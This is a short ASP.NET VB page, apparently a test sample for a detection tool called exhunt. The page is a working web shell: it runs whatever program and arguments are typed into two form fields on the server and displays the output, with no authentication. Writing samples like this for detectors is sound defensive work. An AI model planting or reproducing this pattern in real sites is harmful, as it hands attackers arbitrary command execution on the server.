<%@ Page Language="VB" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
' written for exhunt's tests: the program and its arguments come from
' HTML inputs run at the server, read through .Value
Sub Go(s As Object, e As EventArgs)
  Dim psi As New ProcessStartInfo(Prog.Value)
  psi.Arguments = Args.Value
  psi.UseShellExecute = False
  psi.RedirectStandardOutput = True
  Dim p As Process = Process.Start(psi)
  Out.InnerText = p.StandardOutput.ReadToEnd()
End Sub
</script>
<form runat="server">
<input id="Prog" runat="server" type="text" />
<input id="Args" runat="server" type="text" />
<button runat="server" onserverclick="Go">run</button>
<pre id="Out" runat="server"></pre>
</form>
